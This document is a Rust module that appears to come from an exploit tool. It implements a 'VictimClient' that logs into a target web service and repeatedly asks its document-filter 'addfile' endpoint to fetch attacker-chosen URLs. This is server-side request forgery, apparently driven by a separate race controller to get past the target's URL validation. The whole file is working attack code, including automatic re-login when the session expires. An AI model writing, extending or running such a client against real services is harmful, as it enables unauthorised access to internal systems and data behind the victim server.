//! Victim service API client.

use log::{debug, info, warn};

use super::response::{decode_fetch_response, FetchResponse, FetchResult, ResponseMarkers};
use super::session::{SessionStore, VictimSession};
use crate::config::{
    VICTIM_API_VERSION, VICTIM_DOCUMENT_FILTER_PATH, VICTIM_LOGIN_PATH, VICTIM_UPLOAD_APP,
    VICTIM_UPLOAD_FILENAME,
};
use crate::error_handling::VictimError;
use crate::utils::truncate_for_log;

/// Account used to authenticate with the victim service.
#[derive(Debug, Clone)]
pub struct VictimCredentials {
    pub username: String,
    pub password: String,
}

/// Client for the victim's login and document filter endpoints.
///
/// Owns the session store. Only session expiry is retried (one re-login, one
/// retry); every other retry decision belongs to the race controller.
pub struct VictimClient {
    client: reqwest::Client,
    root: String,
    credentials: VictimCredentials,
    store: SessionStore,
    markers: ResponseMarkers,
}

impl VictimClient {
    pub fn new(
        client: reqwest::Client,
        root: impl Into<String>,
        credentials: VictimCredentials,
    ) -> Self {
        Self {
            client,
            root: root.into().trim_end_matches('/').to_string(),
            credentials,
            store: SessionStore::new(),
            markers: ResponseMarkers::default(),
        }
    }

    /// Replaces the body markers used to classify fetch responses.
    pub fn with_markers(mut self, markers: ResponseMarkers) -> Self {
        self.markers = markers;
        self
    }

    pub fn session_store(&self) -> &SessionStore {
        &self.store
    }

    /// Logs in with the configured credentials and stores the new session.
    ///
    /// # Errors
    ///
    /// Returns [`VictimError::LoginFailed`] on a non-200 status or a body without
    /// a non-empty session token, and [`VictimError::Transport`] if the request
    /// fails outright.
    pub async fn login(&self) -> Result<(), VictimError> {
        let form = [
            ("action", "login"),
            ("name", self.credentials.username.as_str()),
            ("password", self.credentials.password.as_str()),
            ("staySignedIn", "true"),
        ];
        let url = format!("{}{}", self.root, VICTIM_LOGIN_PATH);
        let response = self.client.post(&url).form(&form).send().await?;
        let status = response.status().as_u16();
        let body = response.text().await?;

        if status != 200 {
            return Err(VictimError::LoginFailed { status, body });
        }
        match serde_json::from_str::<VictimSession>(&body) {
            Ok(session) if !session.session.is_empty() => {
                info!("Logged in as {}", self.credentials.username);
                self.store.set_session(session);
                Ok(())
            }
            _ => Err(VictimError::LoginFailed { status, body }),
        }
    }

    /// Asks the victim to fetch `target_url` and add it as a file.
    ///
    /// A session expiry triggers one re-login and one retry of the same call; a
    /// second expiry is returned as [`VictimError::SessionExpired`].
    pub async fn trigger_remote_fetch(&self, target_url: &str) -> Result<FetchResult, VictimError> {
        match self.add_file(target_url).await {
            Err(VictimError::SessionExpired) => {
                warn!("Victim session expired, logging in again");
                self.login().await?;
                self.add_file(target_url).await
            }
            other => other,
        }
    }

    async fn add_file(&self, target_url: &str) -> Result<FetchResult, VictimError> {
        let session = self.store.get_session()?;
        let request_data = serde_json::json!({ "add_imageurl": target_url }).to_string();
        let form = [
            ("action", "addfile"),
            ("requestdata", request_data.as_str()),
            ("version", VICTIM_API_VERSION),
            ("filename", VICTIM_UPLOAD_FILENAME),
            ("app", VICTIM_UPLOAD_APP),
        ];
        let url = format!("{}{}", self.root, VICTIM_DOCUMENT_FILTER_PATH);

        debug!("addfile for {}", truncate_for_log(target_url));
        let response = self
            .client
            .post(&url)
            .query(&[("session", session.session.as_str())])
            .form(&form)
            .send()
            .await?;
        let status = response.status().as_u16();
        let body = response.text().await?;

        match decode_fetch_response(&self.markers, status, &body)? {
            FetchResponse::Added(result) => Ok(result),
            FetchResponse::SessionExpired => Err(VictimError::SessionExpired),
            FetchResponse::ValidationRejected(body) => Err(VictimError::ValidationRejected { body }),
            FetchResponse::Other { status, body } => Err(VictimError::Rejected { status, body }),
        }
    }
}
